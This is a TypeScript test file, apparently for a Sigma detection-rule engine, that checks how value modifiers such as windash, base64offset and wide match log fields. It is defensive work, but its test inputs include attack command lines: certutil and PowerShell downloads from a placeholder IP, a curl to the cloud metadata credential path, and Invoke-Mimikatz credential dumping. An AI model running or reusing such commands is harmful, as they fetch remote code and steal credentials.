/**
 * Sigma's value-transforming modifiers: windash, base64offset, wide/utf16le, utf16be, utf16 (and
 * their chains with base64, contains, all, cased). Expected strings are copied from pySigma's own
 * tests and from backends that convert through pySigma, or derived from the byte examples of the
 * Sigma specification; each test says where from.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { base64OffsetVariants, utf16Bytes, windashVariants } from '../../../src/detect/rules/compile.js';
import { parseRuleText } from '../../../src/detect/rules/load.js';
import { matcher, sigma } from './helpers.js';

const b64 = (data: Buffer | string) => Buffer.from(data).toString('base64');

/** The one issue a detection block gives, as [kind, message]. */
function issueOf(detection: string): [string, string] {
  const { rules, issues } = parseRuleText(sigma(detection), 'm.yml');
  assert.equal(rules.length, 0, 'the rule should not load');
  assert.equal(issues.length, 1, JSON.stringify(issues));
  return [issues[0].kind, issues[0].message];
}

describe('|windash', () => {
  it("expands an option dash into pySigma's five characters", () => {
    // SigmaHQ/pySigma-backend-opensearch tests/test_backend_opensearch_ppl.py, test_automated_modifier_windash:
    // ' -param-name ' → ' -param-name ', ' /param-name ', ' –param-name ', ' —param-name ', ' ―param-name '.
    assert.deepEqual(windashVariants(' -param-name '), [' -param-name ', ' /param-name ', ' \u2013param-name ', ' \u2014param-name ', ' \u2015param-name ']);
  });

  it('expands every option dash, in every combination, and only dashes that start a word', () => {
    // SigmaHQ/pySigma tests/test_modifiers.py, test_windash: '-param-1 -param2' gives these four
    // (pySigma then had only - and /); the dash inside "param-1" is not an option and stays.
    const variants = windashVariants('-param-1 -param2');
    assert.equal(variants.length, 25);
    for (const v of ['-param-1 -param2', '-param-1 /param2', '/param-1 -param2', '/param-1 /param2']) assert.ok(variants.includes(v), v);
    assert.ok(variants.every((v) => v.includes('param-1')));
    // \B[-/]\b: "/" starts an option too; "a-b", "x-", "- x" and "a/b" have none; in "--x" only the dash before x.
    assert.deepEqual(windashVariants('/f'), ['-f', '/f', '\u2013f', '\u2014f', '\u2015f']);
    for (const none of ['a-b', 'x-', '- x', 'a/b']) assert.deepEqual(windashVariants(none), [none], none);
    assert.deepEqual(windashVariants('--x'), ['--x', '-/x', '-\u2013x', '-\u2014x', '-\u2015x']);
    // Wildcards are not word characters (pySigma splits the value at them).
    assert.equal(windashVariants('*-enc*').length, 5);
  });

  it('|windash|contains matches each dash form, case-insensitively, and nothing else', () => {
    const m = matcher("sel:\n  CommandLine|windash|contains: ' -enc '\ncondition: sel");
    for (const dash of ['-', '/', '\u2013', '\u2014', '\u2015']) assert.ok(m({ CommandLine: `powershell.exe ${dash}enc SQBFAFgA` }), dash);
    assert.ok(m({ CommandLine: 'powershell.exe /ENC SQBFAFgA' }));
    assert.ok(!m({ CommandLine: 'powershell.exe +enc SQBFAFgA' }));
    assert.ok(!m({ CommandLine: 'powershell.exe -encodedcommand SQBFAFgA' }));
  });

  it('|windash alone compares whole values; |cased keeps case', () => {
    const eq = matcher("sel:\n  CommandLine|windash: '-f'\ncondition: sel");
    assert.ok(eq({ CommandLine: '/F' }));
    assert.ok(!eq({ CommandLine: 'x /f' }));
    const cased = matcher("sel:\n  CommandLine|windash|contains|cased: ' -urlcache '\ncondition: sel");
    assert.ok(cased({ CommandLine: 'certutil /urlcache /f http://203.0.113.9/a.exe' }));
    assert.ok(!cased({ CommandLine: 'certutil /URLCACHE /f http://203.0.113.9/a.exe' }));
  });

  it('|windash|contains|all: each value by one of its forms', () => {
    const m = matcher("sel:\n  CommandLine|windash|contains|all: [' -urlcache ', ' -f ']\ncondition: sel");
    assert.ok(m({ CommandLine: 'certutil /urlcache \u2013f http://203.0.113.9/a.exe' }));
    assert.ok(!m({ CommandLine: 'certutil /urlcache http://203.0.113.9/a.exe' }));
  });

  it('refuses a value whose forms would pass the per-field limit, and |windash with |re', () => {
    // Six option dashes: 5^6 = 15,625 strings, beyond the 10,000 values a field may have.
    const [kind, message] = issueOf("sel:\n  CommandLine|windash|contains: '-a -b -c -d -e -f'\ncondition: sel");
    assert.equal(kind, 'invalid');
    assert.match(message, /windash.*limit is 10,000/);
    assert.doesNotThrow(() => matcher("sel:\n  CommandLine|windash|contains: '-a -b -c -d -e'\ncondition: sel"));
    assert.deepEqual(issueOf("sel:\n  CommandLine|windash|re: '-enc'\ncondition: sel"), ['invalid', 'modifier |windash cannot be combined with |re']);
  });
});

describe('|base64offset', () => {
  it("gives pySigma's three strings", () => {
    // SigmaHQ/pySigma tests/test_modifiers.py, test_base64offset: "foobar" → Zm9vYmFy, Zvb2Jhc, mb29iYX.
    assert.deepEqual(base64OffsetVariants(Buffer.from('foobar')), ['Zm9vYmFy', 'Zvb2Jhc', 'mb29iYX']);
  });

  it('|base64offset|contains finds the value at any byte offset of the encoded data', () => {
    const value = 'IEX (New-Object Net.WebClient)';
    const m = matcher(`sel:\n  requestParameters.userData|base64offset|contains: '${value}'\ncondition: sel`);
    for (let shift = 0; shift < 6; shift++) {
      const data = `${'#'.repeat(shift)}${value}.DownloadString('http://203.0.113.9/a.ps1')`;
      assert.ok(m({ requestParameters: { userData: b64(data) } }), `shift ${shift}`);
    }
    assert.ok(!m({ requestParameters: { userData: b64('#!/bin/bash\nyum update -y\n') } }));
    // Base64 is case-sensitive: the lower-cased text is another encoding.
    assert.ok(!m({ requestParameters: { userData: b64(value).toLowerCase() } }));
  });

  it('|base64offset|contains|all needs every value', () => {
    const m = matcher('sel:\n  requestParameters.userData|base64offset|contains|all: [curl, 169.254.169.254]\ncondition: sel');
    assert.ok(m({ requestParameters: { userData: b64('#!/bin/sh\ncurl -s http://169.254.169.254/latest/meta-data/iam/') } }));
    assert.ok(!m({ requestParameters: { userData: b64('#!/bin/sh\ncurl -s https://example.com/') } }));
  });

  it('needs |contains and a value of at least two bytes', () => {
    const [kind, message] = issueOf('sel:\n  x|base64offset: foobar\ncondition: sel');
    assert.equal(kind, 'invalid');
    assert.match(message, /\|base64offset needs \|contains/);
    assert.match(issueOf('sel:\n  x|base64offset|startswith: foobar\ncondition: sel')[1], /needs \|contains/);
    assert.match(issueOf('sel:\n  x|base64offset|contains: a\ncondition: sel')[1], /at least 2 bytes/);
    assert.match(issueOf('sel:\n  x|base64|base64offset|contains: ab\ncondition: sel')[1], /\|base64 and \|base64offset cannot be combined/);
  });
});

describe('|wide / |utf16le / |utf16be / |utf16', () => {
  it('|wide|base64offset|contains gives the strings pySigma gives', () => {
    // SigmaHQ/pySigma-backend-opensearch tests/test_backend_opensearch_ppl.py,
    // test_automated_modifier_wide_base64offset: 'ping' → cABpAG4AZw, AAaQBuAGcA, wAGkAbgBnA.
    assert.deepEqual(base64OffsetVariants(utf16Bytes('ping', 'wide')), ['cABpAG4AZw', 'AAaQBuAGcA', 'wAGkAbgBnA']);
    const m = matcher("sel:\n  CommandLine|wide|base64offset|contains: 'ping'\ncondition: sel");
    for (let shift = 0; shift < 3; shift++) {
      const encoded = b64(Buffer.from(`${'x'.repeat(shift)}ping -n 4 203.0.113.9`, 'utf16le'));
      assert.ok(m({ CommandLine: `powershell.exe -enc ${encoded}` }), `shift ${shift}`);
    }
    assert.ok(!m({ CommandLine: `powershell.exe -enc ${b64('ping -n 4 203.0.113.9')}` }), 'UTF-8 is another encoding');
  });

  it('|utf16le is |wide', () => {
    const wide = matcher("sel:\n  CommandLine|wide|base64offset|contains: 'Invoke-Mimikatz'\ncondition: sel");
    const le = matcher("sel:\n  CommandLine|utf16le|base64offset|contains: 'Invoke-Mimikatz'\ncondition: sel");
    const hit = { CommandLine: `powershell -enc ${b64(Buffer.from('IEX (Invoke-Mimikatz -DumpCreds)', 'utf16le'))}` };
    assert.ok(wide(hit) && le(hit));
  });

  it('encode before |base64 as the Sigma specification shows', () => {
    // sigma-specification appendix/sigma-modifiers-appendix.md: cmd > 63 00 6d 00 64 00 (utf16le),
    // 00 63 00 6d 00 64 (utf16be), FF FE 63 00 6d 00 64 00 (utf16, with a byte order mark).
    const le = b64(Buffer.from('63006d006400', 'hex'));
    const be = b64(Buffer.from('0063006d0064', 'hex'));
    const bom = b64(Buffer.from('fffe63006d006400', 'hex'));
    assert.deepEqual([le, be, bom], ['YwBtAGQA', 'AGMAbQBk', '//5jAG0AZAA=']);
    const m = (mods: string) => matcher(`sel:\n  x|${mods}: cmd\ncondition: sel`);
    assert.ok(m('utf16le|base64')({ x: le }) && !m('utf16le|base64')({ x: be }));
    assert.ok(m('wide|base64')({ x: le }));
    assert.ok(m('utf16be|base64')({ x: be }) && !m('utf16be|base64')({ x: le }));
    assert.ok(m('utf16|base64')({ x: bom }) && !m('utf16|base64')({ x: le }));
    assert.ok(m('utf16|base64|startswith')({ x: `${bom.slice(0, -1)}` }) === false);
    assert.ok(m('utf16be|base64|contains')({ x: `AAAA${be}AAAA` }));
    // utf16|base64offset: pySigma encodes the byte order mark as FF FE, at each offset.
    assert.deepEqual(base64OffsetVariants(utf16Bytes('cmd', 'utf16')), base64OffsetVariants(Buffer.from('fffe63006d006400', 'hex')));
    assert.deepEqual(base64OffsetVariants(utf16Bytes('cmd', 'utf16be')), base64OffsetVariants(Buffer.from('0063006d0064', 'hex')));
  });

  it('alone, they compare with the UTF-16 bytes as characters, wildcards kept (pySigma)', () => {
    // SigmaHQ/pySigma tests/test_modifiers.py, test_wide: '*foobar*' → '*f\x00o\x00o\x00b\x00a\x00r\x00*'.
    const wide = matcher("sel:\n  x|wide: '*foobar*'\ncondition: sel");
    assert.ok(wide({ x: 'ab f\u0000o\u0000o\u0000b\u0000a\u0000r\u0000 cd' }));
    assert.ok(wide({ x: 'F\u0000O\u0000O\u0000B\u0000A\u0000R\u0000' }), 'case-insensitive as any value');
    assert.ok(!wide({ x: 'foobar' }), 'a JSON log holds such text only if it recorded the NUL characters');
    assert.ok(matcher('sel:\n  x|utf16be: cmd\ncondition: sel')({ x: '\u0000c\u0000m\u0000d' }));
    assert.ok(matcher('sel:\n  x|utf16: cmd\ncondition: sel')({ x: '\ufeffc\u0000m\u0000d\u0000' }));
    assert.ok(matcher("sel:\n  x|wide|contains: 'a\\*b'\ncondition: sel")({ x: 'a\u0000*\u0000b\u0000' }), 'an escaped star stays a literal star');
    // SigmaHQ/pySigma tests/test_modifiers.py, test_wide_noascii: "foobär" is refused.
    const [kind, message] = issueOf("sel:\n  x|wide: 'foob\u00e4r'\ncondition: sel");
    assert.equal(kind, 'invalid');
    assert.match(message, /ASCII/);
    // With Base64 any text is encoded.
    assert.ok(matcher("sel:\n  x|wide|base64: 'foob\u00e4r'\ncondition: sel")({ x: b64(Buffer.from('foob\u00e4r', 'utf16le')) }));
  });
});

describe('chains', () => {
  it('|windash|base64offset|contains: every dash form, encoded', () => {
    const m = matcher("sel:\n  x|windash|base64offset|contains: ' -nop '\ncondition: sel");
    assert.ok(m({ x: b64('powershell /nop -w hidden') }));
    assert.ok(m({ x: b64('#powershell \u2013nop -w hidden') }));
    assert.ok(!m({ x: b64('powershell +nop -w hidden') }));
  });

  it('refuses modifiers out of Sigma order, twice, or with operations they do not fit', () => {
    const cases: [string, RegExp][] = [
      ['x|base64offset|wide|contains: ping', /\|wide must come before \|base64offset/],
      ['x|wide|windash|contains: -enc', /\|windash must come before \|wide/],
      ['x|wide|utf16be|base64: ping', /\|wide and \|utf16be cannot be combined/],
      ['x|windash|windash|contains: -enc', /\|windash is given twice/],
      ['x|wide|cidr: 10.0.0.0/8', /\|wide cannot be combined with \|cidr/],
      ['x|base64offset|gt: 5', /\|base64offset cannot be combined with \|gt/],
      ['x|windash|fieldref: y', /\|fieldref cannot be combined with \|windash/],
      ['x|wide|exists: true', /\|exists cannot be combined/],
    ];
    for (const [line, re] of cases) {
      const [kind, message] = issueOf(`sel:\n  ${line}\ncondition: sel`);
      assert.equal(kind, 'invalid', line);
      assert.match(message, re, line);
    }
  });

  it('keeps near and timeframe unsupported, and says where |expand takes its values from', () => {
    const [kind, message] = issueOf("sel:\n  x|expand: '%admins%'\ncondition: sel");
    assert.equal(kind, 'unsupported');
    assert.match(message, /config defines no placeholders \(detection\.placeholders/);
    assert.deepEqual(issueOf('a:\n  x: 1\nb:\n  y: 1\ncondition: a near b')[0], 'unsupported');
    assert.match(issueOf('sel:\n  x: 1\ntimeframe: 5m\ncondition: sel')[1], /timeframe.*aggregation/);
  });
});

describe('|neq and the long regex flag names (pySigma modifier_mapping)', () => {
  it('|neq is a numeric not-equal: other numbers and numeric strings match, the value, text and a missing field do not', () => {
    // pySigma sigma/modifiers.py, SigmaNotEqualModifier: "Numeric not equal (!=) matching" (a SigmaCompareModifier).
    const m = matcher('sel:\n  responseElements.count|neq: 0\ncondition: sel');
    assert.equal(m({ responseElements: { count: 3 } }), true);
    assert.equal(m({ responseElements: { count: '7' } }), true);
    assert.equal(m({ responseElements: { count: 0 } }), false);
    assert.equal(m({ responseElements: { count: '0' } }), false);
    assert.equal(m({ responseElements: { count: 'none' } }), false, 'not a number: no comparison');
    assert.equal(m({ responseElements: {} }), false, 'missing field');
  });

  it('|neq takes numbers only and combines with the time modifiers', () => {
    assert.deepEqual(issueOf("sel:\n  x|neq: abc\ncondition: sel"), ['invalid', '|neq needs a number (field "x")']);
    const night = matcher('sel:\n  eventTime|hour|neq: 9\ncondition: sel');
    assert.equal(night({ eventTime: '2026-11-20T03:14:15Z' }), true);
    assert.equal(night({ eventTime: '2026-11-20T09:14:15Z' }), false);
  });

  it('ignorecase, multiline and dotall are |i, |m and |s', () => {
    const i = matcher("sel:\n  userAgent|re|ignorecase: '^boto3/'\ncondition: sel");
    assert.equal(i({ userAgent: 'Boto3/1.35.0 md/Botocore#1.35.0' }), true);
    const cased = matcher("sel:\n  userAgent|re: '^boto3/'\ncondition: sel");
    assert.equal(cased({ userAgent: 'Boto3/1.35.0' }), false, 'without the flag the regex is case-sensitive');
    const s = matcher("sel:\n  errorMessage|re|dotall: 'denied.+role'\ncondition: sel");
    assert.equal(s({ errorMessage: 'access denied\nfor role x' }), true);
    const ml = matcher("sel:\n  errorMessage|re|multiline: '^for role'\ncondition: sel");
    assert.equal(ml({ errorMessage: 'access denied\nfor role x' }), true);
    assert.deepEqual(issueOf("sel:\n  x|ignorecase: a\ncondition: sel"), ['invalid', 'modifier |i is a regex flag and needs |re']);
  });
});
